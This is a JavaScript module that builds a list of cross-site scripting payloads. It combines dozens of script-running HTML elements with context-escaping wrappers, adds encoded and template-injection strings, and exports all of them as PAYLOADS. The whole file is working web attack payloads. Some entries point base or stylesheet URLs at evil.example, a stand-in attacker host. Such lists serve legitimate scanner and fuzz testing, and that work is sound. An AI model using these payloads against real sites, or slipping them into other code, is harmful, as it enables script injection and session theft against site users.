// Texts that become script where something forgets to escape: elements that run by themselves, in ways out of where a text stands.
const RUN = 'alert(document.domain)';

const ELEMENTS = [
  `<script>${RUN}</script>`,
  `<script src="data:text/javascript,${RUN}"></script>`,
  `<img src=x onerror=${RUN}>`,
  `<svg onload=${RUN}>`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><animate onbegin=${RUN} attributeName=x dur=1s>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${RUN}>`,
  `<iframe srcdoc="<script>${RUN}</script>"></iframe>`,
  `<iframe src="javascript:${RUN}"></iframe>`,
  `<object data="javascript:${RUN}"></object>`,
  `<embed src="data:text/html,<script>${RUN}</script>">`,
  `<input autofocus onfocus=${RUN}>`,
  `<details open ontoggle=${RUN}>`,
  `<video><source onerror=${RUN}></video>`,
  `<audio src=x onerror=${RUN}>`,
  `<body onload=${RUN}>`,
  `<marquee onstart=${RUN}>x</marquee>`,
  `<a href="javascript:${RUN}">läs mer</a>`,
  `<form action="javascript:${RUN}"><button>Sänd</button></form>`,
  `<base href="https://evil.example/">`,
  `<meta http-equiv="refresh" content="0;url=javascript:${RUN}">`,
  `<link rel="stylesheet" href="https://evil.example/x.css">`,
  `<style>@import url(https://evil.example/x.css);</style>`,
  `<noscript><style></noscript><img src=x onerror=${RUN}></style>`,
  `<style><noscript></style><img src=x onerror=${RUN}></noscript>`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
  `<template><img src=x onerror=${RUN}></template>`,
  `<div hx-get="/" hx-trigger="load" hx-on:load="${RUN}">x</div>`,
];

// How a text gets out of an element's text, an attribute, a text field, a title, a comment or a script.
const FRAMES = [
  (it) => it,
  (it) => it.replace(/<(\w+)/g, (all) => all.toUpperCase()),
  (it) => `">${it}`,
  (it) => `'>${it}`,
  (it) => `</textarea>${it}`,
  (it) => `</title></style></script>${it}`,
  (it) => `-->${it}<!--`,
  (it) => `]]>${it}`,
  (it) => it.replaceAll('<', '&lt;').replaceAll('>', '&gt;'),
  (it) => `<scr<script>ipt>${it}`,
  (it) => it.replace(/^</, '<\u0000'),
];

const ALONE = [
  `" onmouseover="${RUN}" autofocus onfocus="${RUN}" x="`,
  `' onfocus='${RUN}' autofocus x='`,
  '` onfocus=alert(1) autofocus',
  `javascript:${RUN}`,
  `JaVaScRiPt:${RUN}`,
  `java\tscript:${RUN}`,
  'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
  '${7*7}{{7*7}}#{7*7}<%= 7*7 %>@{7*7}',
  "'-alert(1)-'",
  '\\u003cscript\\u003ealert(1)\\u003c/script\\u003e',
  '%3Cscript%3Ealert(1)%3C/script%3E',
  '&#60;script&#62;alert(1)&#60;/script&#62;',
  '+ADw-script+AD4-alert(1)+ADw-/script+AD4-',
  '＜script＞alert(1)＜/script＞',
];

export const PAYLOADS = [...ELEMENTS.flatMap((element) => FRAMES.map((frame) => frame(element))), ...ALONE];
